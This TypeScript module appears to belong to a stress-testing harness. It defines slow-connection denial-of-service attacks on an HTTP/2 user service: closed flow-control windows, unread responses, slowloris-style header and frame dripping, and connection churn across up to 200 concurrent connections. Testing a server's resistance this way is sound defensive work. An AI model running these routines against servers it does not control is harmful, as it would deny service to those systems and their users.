import { setTimeout } from "node:timers/promises";
import type { Attack, Field } from "./attack.ts";
import { call, open } from "./floods.ts";
import { DATA, frame } from "./frame.ts";
import { Line } from "./line.ts";

const EVERY_MS = 100;

/** Connections that keep the server waiting. */
export const STALLS: Readonly<Record<string, Attack>> = {
  "windows that stay closed": hold(20, async (field) => {
    const line = await Line.openHttp2(field, { window: 0 });
    for (let stream = 1; stream < 200; stream += 2)
      await line?.send(call(field, stream, stream % 4 === 1 ? "ListUsers" : "ListUsersChunked"));
    return line;
  }),
  "readers that do not read": hold(20, async (field) => {
    const line = await Line.openHttp2(field, { deaf: true, window: 2 ** 31 - 1 });
    for (let stream = 1; stream < 200; stream += 2) await line?.send(call(field, stream));
    return line;
  }),
  "slow senders": hold(100, (field) => Line.openHttp2(field), {
    first: (field) => open(field, 1),
    next: () => frame(DATA, 0, 1, Buffer.from([0])),
  }),
  "slow headers": hold(200, (field) => Line.open(field), {
    first: () => Buffer.from("POST /roster.v1.UserService/GetUser HTTP/1.1\r\nhost: x\r\n"),
    next: (round) => Buffer.from(`h${round}: 1\r\n`),
  }),
  "slow prefaces": hold(200, (field) => Line.open(field), { first: () => Buffer.from("PRI"), next: () => Buffer.alloc(0) }),
  "connections that come and go": async (field) => {
    const churn = async () => {
      while (!field.signal.aborted) (await Line.open(field))?.close();
    };
    await Promise.all([churn(), churn(), churn(), churn()]);
  },
};

interface Drip {
  readonly first: (field: Field) => Buffer;
  readonly next: (round: number) => Buffer;
}

/** So many connections at a time, each opened anew when the server ends it. */
function hold(lines: number, dial: (field: Field) => Promise<Line | undefined>, drip?: Drip): Attack {
  const one = async (field: Field) => {
    while (!field.signal.aborted) {
      const line = await dial(field);
      if (line === undefined) {
        await setTimeout(EVERY_MS);
        continue;
      }
      if (drip !== undefined) await line.send(drip.first(field));
      for (let round = 0; line.isOpen && !field.signal.aborted; round++) {
        await setTimeout(EVERY_MS);
        if (drip !== undefined) await line.send(drip.next(round));
      }
      line.close();
    }
  };
  return async (field) => void (await Promise.all(Array.from({ length: lines }, () => one(field))));
}
